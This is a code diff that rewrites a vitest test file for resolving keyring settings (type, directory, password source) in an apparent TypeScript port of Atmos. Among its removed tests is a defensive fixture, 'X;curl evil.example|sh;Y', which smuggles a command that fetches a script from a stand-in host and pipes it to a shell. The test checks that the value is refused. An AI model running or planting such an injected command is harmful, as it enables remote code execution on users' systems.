@@ -1,175 +1,33 @@
-import { writeFileSync } from 'node:fs';
-import { join } from 'node:path';
-import { describe, expect, test } from 'vitest';
-import {
-  environmentChoices,
-  type KeyringChoices,
-  resolveKeyringSettings,
-} from '../../src/keyring/settings.ts';
-import { temporaryDirectory } from '../support/temporary.ts';
-import { expectError, thrownBy } from './file/rejection.ts';
-
-const home = '/home/somebody';
-const working = '/srv/project';
-
-/** What is settled by the environment, then by what atmos.yaml says. */
-function settle(env: Record<string, string> = {}, configured: KeyringChoices = {}) {
-  return resolveKeyringSettings([environmentChoices({ env }), configured], {
-    env,
-    platform: 'linux',
-    homeDirectory: home,
-    userId: 1000,
-    workingDirectory: () => working,
-  });
-}
+import { expect, test } from 'vitest';
+import { environmentChoices, resolveKeyringSettings } from '../../src/keyring/settings.ts';
 
 const inYaml = (value: string) => ({ value, source: 'atmos.yaml:3:5' });
-const directoryOf = (path: string) => settle({ ATMOS_KEYRING_FILE_PATH: path }).directory.value;
+const settle = (env: Record<string, string>, configured = {}) =>
+  resolveKeyringSettings([environmentChoices({ env }), configured]);
 
-test('nothing said: the system keyring, and the defaults of Atmos', () => {
-  expect(settle()).toEqual({
-    type: { value: 'system', source: 'default' },
-    directory: { value: `${home}/.local/share/atmos/keyring`, source: 'default' },
-    passwordEnv: { value: 'ATMOS_KEYRING_PASSWORD', source: 'default' },
+test('the type is system by default; the environment wins over atmos.yaml', () => {
+  expect(settle({}).type).toEqual({ value: 'system', source: 'default' });
+  expect(settle({ ATMOS_KEYRING_TYPE: '' }).type.source).toBe('default');
+  expect(settle({}, { type: inYaml('file') }).type).toEqual(inYaml('file'));
+  expect(settle({ ATMOS_KEYRING_TYPE: 'memory' }, { type: inYaml('file') }).type).toEqual({
+    value: 'memory',
+    source: 'ATMOS_KEYRING_TYPE',
   });
 });
 
-test('the environment wins over atmos.yaml, and both over the default', () => {
-  const configured: KeyringChoices = {
-    type: inYaml('file'),
-    path: inYaml('/configured'),
-    passwordEnv: inYaml('CONFIGURED'),
-    passwordFile: inYaml('/run/configured'),
-    passwordCommand: inYaml('pass show keyring'),
-  };
-  expect(settle({}, configured)).toEqual({
-    type: inYaml('file'),
-    directory: inYaml('/configured'),
-    passwordEnv: inYaml('CONFIGURED'),
-    passwordFile: inYaml('/run/configured'),
-    passwordCommand: inYaml('pass show keyring'),
-  });
-  const env = {
-    ATMOS_KEYRING_TYPE: 'memory',
-    ATMOS_KEYRING_FILE_PATH: '/from/env',
-    ATMOS_KEYRING_PASSWORD_ENV: 'FROM_ENV',
-    ATMOS_KEYRING_PASSWORD_FILE: '/run/from-env',
-  };
-  expect(settle(env, configured)).toEqual({
-    type: { value: 'memory', source: 'ATMOS_KEYRING_TYPE' },
-    directory: { value: '/from/env', source: 'ATMOS_KEYRING_FILE_PATH' },
-    passwordEnv: { value: 'FROM_ENV', source: 'ATMOS_KEYRING_PASSWORD_ENV' },
-    passwordFile: { value: '/run/from-env', source: 'ATMOS_KEYRING_PASSWORD_FILE' },
-    passwordCommand: inYaml('pass show keyring'),
+test('of each setting of a backend the first place counts that says it', () => {
+  const spec = { path: inYaml('/configured'), password_env: inYaml('CONFIGURED') };
+  const env = { ATMOS_KEYRING_FILE_PATH: '/from/env', ATMOS_KEYRING_PASSWORD_ENV: '' };
+  expect(settle(env, { spec }).spec).toEqual({
+    path: { value: '/from/env', source: 'ATMOS_KEYRING_FILE_PATH' },
+    password_env: inYaml('CONFIGURED'),
   });
 });
 
-test('an empty variable is none', () => {
-  const env = {
-    ATMOS_KEYRING_TYPE: '',
-    ATMOS_KEYRING_FILE_PATH: '',
-    ATMOS_KEYRING_PASSWORD_ENV: '',
-    ATMOS_KEYRING_PASSWORD_FILE: '',
-  };
-  expect(settle(env)).toEqual(settle());
-});
-
-describe('the directory', () => {
-  test.each([
-    ['/srv/keyring', '/srv/keyring'],
-    ['keys', `${working}/keys`],
-    ['../keys', '/srv/keys'],
-    ['~/keys', `${home}/keys`],
-    ['~/.atmos-keyring', `${home}/.atmos-keyring`],
-    ['~/.atmos.keyring', `${home}/.atmos.keyring`],
-    ['~other/keys', `${working}/~other/keys`],
-    ['/srv/a.b/keyring', '/srv/a.b/keyring'],
-    ['/srv/keyring/', '/srv/keyring'],
-    ['.keys', `${working}/.keys`],
-    ['.keys/', `${working}/.keys`],
-    ['keys.d/', `${working}/keys.d`],
-    ['~/keyring.json/', `${home}/keyring.json`],
-  ])('%s is %s', (path, directory) => {
-    expect(directoryOf(path)).toBe(directory);
-  });
-
-  test.each([
-    ['/srv/keyring/keys.json', '/srv/keyring'],
-    ['~/keyring/keys.json', `${home}/keyring`],
-    ['store/keys.', `${working}/store`],
-  ])('%s names a file in %s, as in Atmos', (path, directory) => {
-    expect(directoryOf(path)).toBe(directory);
-  });
-
-  test.each([
-    ['~/keyring.json', home],
-    ['keyring.json', working],
-    ['/keyring.json', '/'],
-  ])('%s would make %s the keyring, and is refused', (path, parent) => {
-    expectError(
-      thrownBy(() => directoryOf(path)),
-      'ERR_KEYRING_IO',
-      `the keyring path ${path} (from ATMOS_KEYRING_FILE_PATH) names a file, so its directory ${parent} would become the keyring`,
-      'name a directory of its own, without an extension: ~/.local/share/atmos/keyring',
-    );
-  });
-
-  test.each([
-    [{ XDG_DATA_HOME: '/xdg' }, '/xdg/atmos/keyring'],
-    [{ XDG_DATA_HOME: '/xdg', ATMOS_XDG_DATA_HOME: '/ours' }, '/ours/atmos/keyring'],
-    [{ XDG_DATA_HOME: 'relative' }, `${home}/.local/share/atmos/keyring`],
-  ])('by default with %j is %s', (env, directory) => {
-    expect(settle(env).directory.value).toBe(directory);
-  });
-});
-
-describe('the password file', () => {
-  test.each([
-    ['~/password', `${home}/password`],
-    ['secrets/password.txt', `${working}/secrets/password.txt`],
-  ])('%s is %s', (path, file) => {
-    expect(settle({ ATMOS_KEYRING_PASSWORD_FILE: path }).passwordFile?.value).toBe(file);
-  });
-
-  test('is what systemd provides, if it does and nothing else is said', () => {
-    const directory = temporaryDirectory();
-    const env = { CREDENTIALS_DIRECTORY: directory };
-    expect(settle(env).passwordFile).toBeUndefined();
-    writeFileSync(join(directory, 'atmos-keyring-password'), 'secret');
-    expect(settle(env).passwordFile).toEqual({
-      value: join(directory, 'atmos-keyring-password'),
-      source: 'CREDENTIALS_DIRECTORY',
-    });
-    expect(settle(env, { passwordFile: inYaml('/run/configured') }).passwordFile?.value).toBe(
-      '/run/configured',
-    );
-  });
-});
-
-describe('a password variable that no variable can be called', () => {
-  const evil = 'X;curl evil.example|sh;Y';
-
-  test.each([
-    [
-      'from the environment',
-      { ATMOS_KEYRING_PASSWORD_ENV: evil },
-      {},
-      `"${evil}" (from ATMOS_KEYRING_PASSWORD_ENV)`,
-    ],
-    ['from a file', {}, { passwordEnv: inYaml(evil) }, `"${evil}" (from atmos.yaml:3:5)`],
-    [
-      'from a tag',
-      {},
-      { passwordEnv: { ...inYaml(evil), tag: '!env WHICH' } },
-      '<value of !env WHICH> (from atmos.yaml:3:5)',
-    ],
-  ] as const)('%s is refused', (_, env, configured, named) => {
-    expect(() => settle(env, configured)).toThrow(
-      expect.objectContaining({
-        code: 'ERR_CONFIG_INVALID',
-        message: `the password variable ${named} is not a name for an environment variable`,
-        hints: ['use letters, digits and _, and no digit first'],
-      }),
-    );
+test('a variable that a file sets has its place in the file', () => {
+  const said = { ATMOS_KEYRING_FILE_PATH: { value: '/k', source: 'env.X (atmos.yaml:9:3)' } };
+  const path = ['env', 'ATMOS_KEYRING_FILE_PATH'];
+  expect(environmentChoices({ env: {} }, said).spec).toEqual({
+    path: { value: '/k', source: 'env.X (atmos.yaml:9:3)', path },
   });
 });
